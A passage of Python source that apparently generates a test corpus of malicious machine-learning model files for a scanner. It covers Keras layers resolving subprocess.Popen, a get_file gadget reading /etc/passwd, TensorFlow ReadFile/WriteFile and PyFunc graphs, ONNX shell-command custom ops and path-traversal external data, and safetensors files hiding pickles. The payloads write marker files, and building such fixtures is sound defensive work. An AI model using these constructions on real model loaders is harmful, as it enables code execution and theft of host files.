    w.file(
        name,
        t,
        ".keras: layer whose module/registered_name is subprocess.Popen",
        keras_zip(keras3_sequential([keras3_input(), layer], "seq")),
        payload="imports subprocess and resolves Popen as the layer class",
    )
    name = "keras_get_file_gadget.keras"
    get_file = {"module": "keras.utils", "class_name": "function", "config": "get_file",
                "registered_name": "function"}  # fmt: skip
    arguments = {"origin": "file:///etc/passwd", "cache_dir": str(w.marker_dir),
                 "cache_subdir": ".", "fname": Path(w.marker(name)).name}  # fmt: skip
    lam = keras3_lambda(w.marker(name), function=get_file, arguments=arguments)
    w.file(
        name,
        t,
        ".keras: Lambda function = keras.utils.get_file writing into a chosen dir",
        keras_zip(keras3_sequential([keras3_input(), lam], "seq")),
        payload="get_file copies a URL into the marker dir (CVE-2025-8747 class)",
    )
    for nested in (False, True):
        name = f"keras_h5_lambda{'_nested' if nested else ''}.h5"
        w.file(
            name,
            t,
            f".h5: model_config with a Lambda layer{' at depth 3' if nested else ''}",
            _h5_bytes(keras2_model_config(w.marker(name), nested), w.out_dir / f".{name}.tmp"),
        )


# ------------------------------------------------------------------ TensorFlow SavedModel


def _attr(key: str, value: bytes) -> bytes:
    return pb_bytes(5, pb_bytes(1, key.encode()) + pb_bytes(2, value))


def _const_string(name: str, text: str) -> bytes:
    tensor = pb_int(1, 7) + pb_bytes(2, b"") + pb_bytes(8, text.encode())  # DT_STRING
    return (pb_bytes(1, name.encode()) + pb_bytes(2, b"Const")
            + _attr("dtype", pb_int(6, 7)) + _attr("value", pb_bytes(8, tensor)))  # fmt: skip


def _node(name: str, op_name: str, inputs: list[str], attrs: bytes = b"") -> bytes:
    body = pb_bytes(1, name.encode()) + pb_bytes(2, op_name.encode())
    return body + b"".join(pb_bytes(3, i.encode()) for i in inputs) + attrs


def saved_model_pb(
    nodes: list[bytes], functions: list[tuple[str, list[bytes]]] | None = None
) -> bytes:
    """A SavedModel proto: schema version 1, one MetaGraphDef tagged `serve`."""
    graph = b"".join(pb_bytes(1, n) for n in nodes)
    if functions:
        library = b"".join(
            pb_bytes(1, pb_bytes(1, pb_bytes(1, fname.encode()))
                     + b"".join(pb_bytes(3, n) for n in fnodes))
            for fname, fnodes in functions
        )  # fmt: skip
        graph += pb_bytes(2, library)
    meta = pb_bytes(1, pb_bytes(4, b"serve")) + pb_bytes(2, graph)
    return pb_int(1, 1) + pb_bytes(2, meta)


def _write_file_nodes(marker: str, contents: str = "contents") -> list[bytes]:
    return [_const_string("filename", marker), _node("write", "WriteFile", ["filename", contents])]


def _tf_samples(w: _Writer) -> None:
    t = "tf-savedmodel"
    empty = {"variables/variables.index": b"", "variables/variables.data-00000-of-00001": b""}
    name = "tf_savedmodel_writefile"
    nodes = [_const_string("contents", "x"), *_write_file_nodes(w.marker(name))]
    w.directory(
        name,
        t,
        "graph with a WriteFile op writing a host path",
        {"saved_model.pb": saved_model_pb(nodes), **empty},
    )
    name = "tf_savedmodel_readfile_exfil"
    nodes = [_const_string("src", "/etc/passwd"), _node("contents", "ReadFile", ["src"]),
             *_write_file_nodes(w.marker(name))]  # fmt: skip
    w.directory(
        name,
        t,
        "ReadFile of /etc/passwd copied out with WriteFile",
        {"saved_model.pb": saved_model_pb(nodes), **empty},
    )
    name = "tf_savedmodel_pyfunc"
    nodes = [_const_string("contents", "x"),
             _node("py", "PyFunc", ["contents"], _attr("token", pb_bytes(2, b"pyfunc_0"))),
             _node("epy", "EagerPyFunc", ["contents"], _attr("token", pb_bytes(2, b"pyfunc_1"))),
             *_write_file_nodes(w.marker(name))]  # fmt: skip
    w.directory(
        name,
        t,
        "PyFunc and EagerPyFunc ops (Python callbacks) beside a WriteFile",
        {"saved_model.pb": saved_model_pb(nodes), **empty},
    )
    name = "tf_savedmodel_writefile_in_function_library"
    fnodes = [_const_string("contents", "x"), *_write_file_nodes(w.marker(name))]
    nodes = [_node("call", "StatefulPartitionedCall", [])]
    w.directory(name, t, "WriteFile hidden in the graph's function library, not the top graph",
                {"saved_model.pb": saved_model_pb(nodes, [("__inference_serve_1", fnodes)]),
                 **empty})  # fmt: skip


# ------------------------------------------------------------------ ONNX


def _onnx_model(node_domain: str = "", op_type: str = "Add", external: str | None = None,
                attrs: dict[str, str] | None = None) -> bytes:  # fmt: skip
    from onnx import TensorProto, helper  # data-only builders, nothing is run

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
    inits = []
    if external is not None:
        w = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4])
        w.data_location = TensorProto.EXTERNAL
        for key, val in (("location", external), ("offset", "0"), ("length", "16")):
            entry = w.external_data.add()
            entry.key, entry.value = key, val
        inits.append(w)
    else:
        inits.append(helper.make_tensor("w", TensorProto.FLOAT, [4], [1.0, 2.0, 3.0, 4.0]))
    node = helper.make_node(op_type, ["x", "w"], ["y"], domain=node_domain, **(attrs or {}))
    graph = helper.make_graph([node], "g", [x], [y], initializer=inits)
    opsets = [helper.make_opsetid("", 17)]
    if node_domain:
        opsets.append(helper.make_opsetid(node_domain, 1))
    return helper.make_model(graph, opset_imports=opsets).SerializeToString()


def _onnx_samples(w: _Writer) -> None:
    t = "onnx"
    name = "onnx_custom_domain_op.onnx"
    w.file(
        name,
        t,
        "node in custom domain evil.custom (needs a native custom-op library)",
        _onnx_model("evil.custom", "System", attrs={"cmd": sh(w.marker(name))}),
        payload="custom-op library code runs at session creation",
    )
    name = "onnx_pyop_contrib.onnx"
    w.file(
        name,
        t,
        "ai.onnx.contrib PyOp: a Python callback op (onnxruntime-extensions)",
        _onnx_model("ai.onnx.contrib", "PyOp", attrs={"cmd": sh(w.marker(name))}),
        payload="Python callback runs at inference",
    )
    w.file(
        "onnx_external_data_traversal.onnx",
        t,
        "external_data location ../../etc/passwd",
        _onnx_model(external="../../etc/passwd"),
        payload="reads a host file as weights",
    )
    w.file(
        "onnx_external_data_absolute.onnx",
        t,
        "external_data location /etc/passwd",
        _onnx_model(external="/etc/passwd"),
        payload="reads a host file as weights",
    )
    name = "onnx_external_data_symlink"
    root = w.directory(name, t, "external data file is a symlink to /etc/passwd",
                       {"model.onnx": _onnx_model(external="weights.bin")},
                       payload="reads a host file as weights")  # fmt: skip
    (root / "weights.bin").symlink_to("/etc/passwd")


# ------------------------------------------------------------------ safetensors


def safetensors_bytes(tensors: dict[str, tuple[int, int]], data: bytes) -> bytes:
    """safetensors layout: u64 LE header size, JSON header, raw data (offsets may lie)."""
    header = {k: {"dtype": "U8", "shape": [end - start], "data_offsets": [start, end]}
              for k, (start, end) in tensors.items()}  # fmt: skip
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + data


def _safetensors_samples(w: _Writer) -> None:
    t = "safetensors"
    fallback = "pickle in the data region creates marker under a torch.load fallback"
    name = "safetensors_overlapping_offsets.safetensors"
    blob = w.payload(name)
    w.file(
        name,
        t,
        "tensors a and b overlap; the data region is a pickle",
        safetensors_bytes({"a": (0, len(blob)), "b": (4, len(blob))}, blob),
        payload=fallback,
    )
    name = "safetensors_out_of_bounds_offsets.safetensors"
    blob = w.payload(name)
    w.file(
        name,
        t,
        "data_offsets end far beyond the file",
        safetensors_bytes({"a": (0, 10_000_000)}, blob),
        payload=fallback,
    )
    name = "safetensors_trailing_pickle_polyglot.safetensors"
    w.file(
        name,
        t,
        "valid safetensors followed by a malicious pickle after the data",
        safetensors_bytes({"a": (0, 16)}, bytes(16)) + w.payload(name),
        payload=fallback,
    )
    name = "safetensors_is_a_pickle.safetensors"
    w.file(name, t, "a .safetensors file that is a pickle", w.payload(name))
    name = "safetensors_header_is_zip_torch.safetensors"
    w.file(
        name,
        t,
        ".safetensors name on a PyTorch zip with a malicious data.pkl",
        raw_zip(torch_members(w.payload(name))),
    )


def format_samples(out_dir: Path, marker_dir: Path, rotation: Rotation | None = None
                   ) -> list[Sample]:  # fmt: skip
    """Write every container and model-format sample; return their manifest rows.

    Container samples (container-*, pickle-carrying bounds, safetensors) take their payload
    from `rotation` in build order; the MLflow, skops, Keras, TF and ONNX samples keep the
    payloads of their formats.
    """
    w = _Writer(out_dir, marker_dir, rotation or Rotation())
    for build in (_zip_samples, _legacy_samples, _compressed_samples, _archive_samples,
                  _reference_samples, _numpy_samples,
                  _bounds_samples, _mlflow_samples, _skops_samples, _keras_samples,
                  _tf_samples, _onnx_samples, _safetensors_samples):  # fmt: skip
        build(w)
    return w.samples
